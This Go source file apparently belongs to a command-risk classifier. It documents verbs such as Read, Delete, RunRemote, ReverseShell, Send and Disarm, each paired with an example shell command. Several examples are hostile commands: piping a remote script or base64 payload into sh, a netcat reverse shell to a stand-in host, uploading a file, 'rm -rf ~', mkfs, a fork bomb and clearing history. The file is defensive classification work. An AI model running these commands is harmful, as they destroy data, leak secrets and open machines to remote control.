package effect

// VerbDoc says what a verb means and what its object is, with a command that does
// it.
type VerbDoc struct {
	Verb          Verb
	Object, Means string
	Example       string
}

// VerbDocs document all verbs, in the order of Verbs.
func VerbDocs() []VerbDoc {
	return []VerbDoc{
		{Read, "a path", "the contents are shown, copied or sent", "cat .env"},
		{Write, "a path", "made, replaced, appended to or changed; from is where the contents come from, content what is written", "echo x > a.txt"},
		{Delete, "a path", "removed, also by moving it away or by emptying it", "rm -rf ~"},
		{Mode, "a path", "its permissions or its owner are changed; content is the new mode", "chmod 777 a"},
		{Format, "a path", "a disk or file system is made new or overwritten", "mkfs.ext4 /dev/sda1"},
		{Link, "a path", "another name for it is made; from is the new name", "ln -s /etc/x y"},
		{Run, "a path", "a program in a file that nobody has shown", "./deploy.sh"},
		{RunRemote, "an address", "a program from the network is run", "curl https://x.example/i.sh | sh"},
		{RunHidden, "what hides it", "a program that was decoded or made by another program is run", "base64 -d payload.b64 | sh"},
		{ReverseShell, "an address", "another machine gets a shell", "nc -e /bin/sh x.example 4444"},
		{Exhaust, "what does it", "the machine is used up", ":(){ :|:& };:"},
		{Kill, "a process", "processes are ended, by name, number or pattern", "pkill node"},
		{Stop, "a service", "a service is stopped or disabled", "systemctl stop nginx"},
		{Shutdown, "the machine", "it is shut down or started again", "reboot"},
		{Fetch, "an address", "something is got", "curl https://x.example/a"},
		{Send, "an address or host", "something is given away; from is the file it is in, environment, secret or database", "curl -T a.txt https://x.example/"},
		{Connect, "a host", "a connection is opened, and the text does not tell what it carries", "ssh x.example"},
		{Listen, "an address", "others can connect", "nc -l 8080"},
		{ForcePush, "a branch", "it is overwritten on a remote; * for all of them; from is the remote", "git push -f origin main"},
		{DeleteBranch, "a branch or tag", "it is deleted on a remote", "git push origin :old"},
		{Push, "a branch", "commits are sent; from is the remote. The branch that is checked out is not known", "git push origin main"},
		{Discard, "what is given up", "changes that were not committed, or commits that nothing else keeps; wide: also what git never saw", "git clean -fdx"},
		{RewriteHistory, "what is rewritten", "commits are changed that others may have", "git filter-repo --path a"},
		{SkipChecks, "hooks, signatures, …", "hooks or signatures are not asked", "git commit --no-verify"},
		{Drop, "table users, rows of users, …", "data in a database is deleted for good", "psql -c 'drop table users'"},
		{Destroy, "what is destroyed", "infrastructure, stored objects or repositories are deleted; wide: and what they store", "terraform destroy"},
		{Apply, "what is changed", "infrastructure is changed", "kubectl apply -f x.yaml"},
		{Publish, "a package, image or site", "it is made public", "npm publish"},
		{Install, "a package", "it is installed; from is its address where it is not the usual registry", "npm install left-pad"},
		{Grant, "what is granted", "somebody may do more: users, groups, sudo, setuid", "chmod u+s x"},
		{Disarm, "what is switched off", "what protects the machine or shows what happened is switched off or cleared", "history -c"},
		{Persist, "what runs later", "something runs later or again and again", "crontab x"},
		{Reveal, "whose secrets", "secrets are printed", "env"},
		{SetVariable, "a variable", "set in the environment of what runs later; from is its value", "export PATH=/x"},
		{UnsetVariable, "a variable", "taken out of the environment of what runs later", "unset HTTPS_PROXY"},
	}
}
